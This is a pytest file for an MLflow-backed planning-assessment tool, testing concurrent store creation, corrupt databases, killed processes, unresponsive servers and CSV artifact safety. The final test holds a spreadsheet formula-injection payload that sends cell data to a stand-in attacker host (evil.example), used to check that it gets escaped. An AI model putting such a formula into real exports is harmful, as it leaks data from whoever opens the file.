"""The MLflow store under faults (issue 14): concurrent first use, a store that cannot be opened,
killed processes, a server that never answers. Results are never lost; exit codes as documented.
"""
from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import uuid
from pathlib import Path

import mlflow
import pandas as pd
import pytest
from mlflow import MlflowClient

import mstarget as mt
from mstarget import tracking
from mstarget.cli.main import main
from mstarget.tracking import records as records_module
from mstarget.tracking import runs as runs_module
from mlflow_helpers import runs_of
from robustness_helpers import silent_listener

ROOT = Path(__file__).resolve().parents[1]
DINGHU = ROOT / "data" / "dinghu_14th_fyp_plan.csv"
NATIONAL_PLAN = ROOT / "data" / "china" / "national_targets.csv"
NATIONAL_HISTORY = ROOT / "data" / "china" / "national_history.csv"


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> str:
    """A SQLite store created once for this module (creating the tables takes seconds)."""
    uri = f"sqlite:///{tmp_path_factory.mktemp('robust_store') / 'mlflow.db'}"
    MlflowClient(tracking_uri=uri).search_experiments()
    return uri


def assess_argv(uri: str, out: Path, experiment: str = "robust") -> list[str]:
    """A fast tracked assessment of the real Dinghu plan (its baselines as history)."""
    return ["assess", "--plan", str(DINGHU), "--model", "naive", "--out", str(out),
            "--tracking-uri", uri, "--experiment", experiment]


def test_eight_processes_starting_together_on_an_empty_folder_all_record_their_run(tmp_path):
    """issue 14 cause 1: 8 `mstarget assess` at once on a fresh store used to exit 1 and leave a
    half-migrated mlflow.db; now every run is recorded and the store opens afterwards."""
    uri = f"sqlite:///{tmp_path / 'fresh' / 'mlflow.db'}"
    (tmp_path / "fresh").mkdir()
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    procs = [subprocess.Popen([sys.executable, "-m", "mstarget",
                               *assess_argv(uri, tmp_path / f"a{i}.csv", "together")],
                              cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                              text=True) for i in range(8)]
    errors = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
    for p in procs:
        p.stderr.close()
    assert [code for code, _ in errors] == [0] * 8, [err[-800:] for code, err in errors if code]
    client, runs = runs_of(uri, "together")  # a plain MlflowClient opens the store
    assert len(runs) == 8 and {r.info.status for r in runs} == {"FINISHED"}
    assert len({r.data.tags["mstarget.pid"] for r in runs}) == 8
    for i in range(8):
        assert len(pd.read_csv(tmp_path / f"a{i}.csv")) == len(mt.read_plan(DINGHU))


# -- a store that cannot be opened: exit 3, the result kept ------------------------------------

def test_damaged_store_file_gives_exit_3_and_keeps_the_result(tmp_path, capsys):
    """issue 14 cause 2: a corrupt mlflow.db made the CLI exit 1 ("a bug")."""
    db = tmp_path / "mlflow.db"
    db.write_bytes(b"SQLite format 3\x00" + os.urandom(3000))  # a header, then garbage
    out = tmp_path / "assessment.csv"
    assert main(assess_argv(f"sqlite:///{db}", out)) == 3
    err = capsys.readouterr().err
    assert str(db) in err and "move it aside" in err and "--no-track" in err
    assert "This is a bug" not in err
    assert len(pd.read_csv(out)) == len(mt.read_plan(DINGHU))


def test_api_assess_with_a_damaged_store_warns_and_returns_the_table(tmp_path):
    """issue 14 cause 2: mt.assess(track=True) raised sqlite3.DatabaseError and lost the table."""
    db = tmp_path / "mlflow.db"
    db.write_text("这不是数据库 not a database\n" * 200, encoding="utf-8")
    settings = tracking.TrackingSettings(tracking_uri=f"sqlite:///{db}", experiment="api")
    with pytest.warns(mt.TrackingWarning, match="not tracked"):
        table = mt.assess(NATIONAL_HISTORY, NATIONAL_PLAN, as_of=2022, model="naive", track=True,
                          tracking_settings=settings)
    assert len(table) == len(mt.read_plan(NATIONAL_PLAN)) and table["p_meet"].notna().any()


def test_unknown_uri_scheme_gives_exit_3(tmp_path, capsys):
    out = tmp_path / "assessment.csv"
    assert main(assess_argv("foo://bar", out)) == 3
    err = capsys.readouterr().err
    assert "foo://bar" in err and "This is a bug" not in err
    assert out.exists()


def test_full_disk_when_the_store_is_opened_gives_exit_3(tmp_path, monkeypatch, capsys):
    def full(self, *args, **kwargs):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(mlflow.MlflowClient, "__init__", full)
    out = tmp_path / "assessment.csv"
    assert main(assess_argv(f"sqlite:///{tmp_path / 'mlflow.db'}", out)) == 3
    err = capsys.readouterr().err
    assert "database or disk is full" in err and "free some space" in err
    assert len(pd.read_csv(out)) == len(mt.read_plan(DINGHU))


# -- killed processes: no run left RUNNING -----------------------------------------------------

HOLD_A_RUN = """
import sys, time
from mstarget import tracking
settings = tracking.TrackingSettings(tracking_uri=sys.argv[1], experiment=sys.argv[2])
with tracking.start_run("assess", settings) as run:
    print(run.run_id, flush=True)
    time.sleep(300)
"""


def test_killed_and_terminated_processes_leave_no_run_running(store, tmp_path, monkeypatch):
    """issue 14 cause 3: SIGTERM ends the run FAILED at once; a run whose process was killed
    with SIGKILL is ended FAILED, with a tag saying why, by the next start against the store."""
    experiment = f"killed-{uuid.uuid4().hex[:6]}"
    procs = {sig: subprocess.Popen([sys.executable, "-c", HOLD_A_RUN, store, experiment],
                                   stdout=subprocess.PIPE, text=True, cwd=tmp_path)
             for sig in (signal.SIGKILL, signal.SIGTERM)}
    run_ids = {sig: p.stdout.readline().strip() for sig, p in procs.items()}
    for sig, p in procs.items():
        p.send_signal(sig)
        p.wait(timeout=120)
        p.stdout.close()
    assert procs[signal.SIGTERM].returncode == 128 + signal.SIGTERM
    client = MlflowClient(tracking_uri=store)
    terminated = client.get_run(run_ids[signal.SIGTERM])
    assert terminated.info.status == "FAILED"
    assert "exited (code 143)" in terminated.data.tags["mstarget.error"]
    killed = client.get_run(run_ids[signal.SIGKILL])
    assert killed.info.status == "RUNNING"  # nothing can run on SIGKILL ...

    monkeypatch.setattr(runs_module, "_SWEPT", set())  # a new process: it has not looked yet
    assert main(assess_argv(store, tmp_path / "next.csv", "another-experiment")) == 0
    killed = client.get_run(run_ids[signal.SIGKILL])  # ... the next start ends it
    assert killed.info.status == "FAILED"
    pid = procs[signal.SIGKILL].pid
    assert f"process {pid}" in killed.data.tags["mstarget.error"]
    assert "ended without closing" in killed.data.tags["mstarget.error"]


def test_a_run_of_a_live_process_is_left_alone(store, monkeypatch):
    experiment = f"alive-{uuid.uuid4().hex[:6]}"
    settings = tracking.TrackingSettings(tracking_uri=store, experiment=experiment)
    with tracking.start_run("outer", settings) as run:
        monkeypatch.setattr(runs_module, "_SWEPT", set())
        assert runs_module._end_stale_runs(MlflowClient(tracking_uri=store), store) == []
        assert MlflowClient(tracking_uri=store).get_run(run.run_id).info.status == "RUNNING"
    assert MlflowClient(tracking_uri=store).get_run(run.run_id).info.status == "FINISHED"


def test_a_run_finished_while_the_sweep_looks_stays_finished(store, monkeypatch):
    """Eight CLIs at once: one process saw another's run RUNNING, that process then finished its
    run and exited, and the sweep ended the FINISHED run FAILED (seen in CI). The sweep reads the
    run again once its process is known to be gone."""
    experiment = f"race-{uuid.uuid4().hex[:6]}"
    settings = tracking.TrackingSettings(tracking_uri=store, experiment=experiment)
    client = MlflowClient(tracking_uri=store)
    with tracking.start_run("outer", settings) as run:
        pass
    client.set_terminated(run.run_id, "RUNNING")  # as the sweep's search saw it, of another process ...
    client.set_tag(run.run_id, "mstarget.pid", str(os.getpid() + 100_000))

    def finished_then_gone(pid, started):  # ... then the process finished its run and exited
        client.set_terminated(run.run_id, "FINISHED")
        return False

    monkeypatch.setattr(runs_module, "_process_alive", finished_then_gone)
    monkeypatch.setattr(runs_module, "_SWEPT", set())
    assert run.run_id not in runs_module._end_stale_runs(client, store)
    after = client.get_run(run.run_id)
    assert after.info.status == "FINISHED" and "mstarget.error" not in after.data.tags


def test_sigterm_during_a_cli_command_is_handled_like_ctrl_c(store, tmp_path, monkeypatch, capsys):
    """SIGTERM while the CLI logs its run: exit 143, the run FAILED, no temporary file left."""
    def terminated_meanwhile(*args, **kwargs):
        os.kill(os.getpid(), signal.SIGTERM)

    monkeypatch.setattr(records_module, "record_assessment", terminated_meanwhile)
    experiment = f"term-{uuid.uuid4().hex[:6]}"
    out = tmp_path / "assessment.csv"
    assert main(assess_argv(store, out, experiment)) == 143
    assert "terminated (SIGTERM)" in capsys.readouterr().err
    _, runs = runs_of(store, experiment)
    assert [r.info.status for r in runs] == ["FAILED"]
    assert runs[0].data.tags["mstarget.error"] == "interrupted (SIGTERM)"
    assert sorted(f.name for f in tmp_path.iterdir()) == ["assessment.csv"]
    assert signal.getsignal(signal.SIGTERM) is not runs_module._exit_on_sigterm


# -- a server that never answers ---------------------------------------------------------------

def test_a_server_that_never_answers_is_given_up_after_one_attempt(tmp_path, monkeypatch, capsys):
    """issue 14 cause 4: a listener that never answers cost 4x MSTARGET_TRACKING_TIMEOUT (retries
    stacked on each request); now one probe within the timeout, then exit 3."""
    monkeypatch.setenv("MSTARGET_TRACKING_TIMEOUT", "1")
    for key in ("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "MLFLOW_HTTP_REQUEST_TIMEOUT"):
        monkeypatch.delenv(key, raising=False)
    out = tmp_path / "assessment.csv"
    with silent_listener() as (port, accepted):
        code = main(assess_argv(f"http://127.0.0.1:{port}", out))
        attempts = len(accepted)
    assert code == 3
    err = capsys.readouterr().err
    assert f"cannot reach the MLflow tracking server at http://127.0.0.1:{port}" in err
    assert "no answer within 1 s" in err
    assert attempts == 1
    assert len(pd.read_csv(out)) == len(mt.read_plan(DINGHU))


def test_api_forecast_with_a_silent_server_warns_and_returns_the_table(monkeypatch):
    monkeypatch.setenv("MSTARGET_TRACKING_TIMEOUT", "1")
    with silent_listener() as (port, accepted):
        settings = tracking.TrackingSettings(tracking_uri=f"http://127.0.0.1:{port}")
        with pytest.warns(mt.TrackingWarning, match="no answer within 1 s"):
            table = mt.forecast(NATIONAL_HISTORY, horizon=2, model="naive", track=True,
                                tracking_settings=settings)
        assert len(accepted) == 1
    assert {"lo_80", "hi_95"} <= set(table.columns) and len(table)


def test_table_artifacts_keep_formula_text_as_text(store, tmp_path):
    """issue 14 cause 5: assessment.csv in the run is opened in Excel from the MLflow UI too."""
    table = pd.DataFrame({"name": ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "执业药师数"],
                          "status": ["at_risk", "on_track"], "p_meet": [0.4, 0.8]})
    settings = tracking.TrackingSettings(tracking_uri=store, experiment=f"art-{uuid.uuid4().hex[:6]}")
    run_id = tracking.log_assessment(table, {"model": "naive"}, settings)
    path = MlflowClient(tracking_uri=store).download_artifacts(run_id, "assessment.csv", str(tmp_path))
    logged = pd.read_csv(path)
    assert logged["name"].tolist() == ["'" + table["name"][0], "执业药师数"]
    assert logged["p_meet"].tolist() == [0.4, 0.8]
